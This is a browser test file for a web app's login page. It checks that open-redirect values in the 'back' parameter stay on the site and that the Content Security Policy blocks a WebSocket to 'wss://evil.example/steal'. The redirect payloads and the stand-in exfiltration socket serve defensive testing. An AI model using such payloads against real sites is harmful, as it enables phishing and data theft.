/** Issue 7, 2.7: a link to our login page that leads to an attacker's site afterwards, which then requests the password once more. Every form of it: web/src/app/own-path.test.ts. */
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Browser } from 'playwright-core';
import { openBrowser, openPage } from '../browser.ts';
import { wordsOf } from '../words.ts';
import { openAccount, origin, password } from './target.ts';

const say = wordsOf('en');
const email = 'back@door.test';
let browser: Browser;
beforeAll(async () => {
  [browser] = await Promise.all([openBrowser(), openAccount(email, '192.0.4.1')]);
});
afterAll(() => browser.close());

test.each([
  ['//evil.example/login', '/'],
  ['/\t/evil.example/login', '/'],
  ['/pages/fund/assets', '/pages/fund/assets'],
])('after a login with back=%j the browser is at %s of this site', async (back, path) => {
  const { page } = await openPage(browser, origin, 'en', 'phone');
  const asked: string[] = [];
  page.on('request', (request) => asked.push(new URL(request.url()).host));
  await page.goto(`/pages/common/login?back=${encodeURIComponent(back)}`);
  await page.getByLabel(say('account:field.address'), { exact: true }).first().fill(email);
  await page.getByLabel(say('account:field.password'), { exact: true }).first().fill(password);
  await page.getByRole('button', { name: say('account:login.go'), exact: true }).click();
  await page.waitForURL((url) => !url.pathname.startsWith('/pages/common/login'));
  expect(page.url()).toBe(`${origin}${path}`);
  expect(asked.filter((host) => host !== new URL(origin).host)).toEqual([]);
  await page.context().close();
});

test('a page cannot open a socket to another host', async () => {
  const { page } = await openPage(browser, origin, 'en', 'phone');
  await page.goto('/');
  const blocked = await page.evaluate<string>(
    `new Promise((done) => {
      document.addEventListener('securitypolicyviolation', ({ blockedURI }) => done(blockedURI));
      try { new WebSocket('wss://evil.example/steal'); } catch {}
    })`,
  );
  expect(blocked).toContain('wss://evil.example');
  await page.context().close();
});
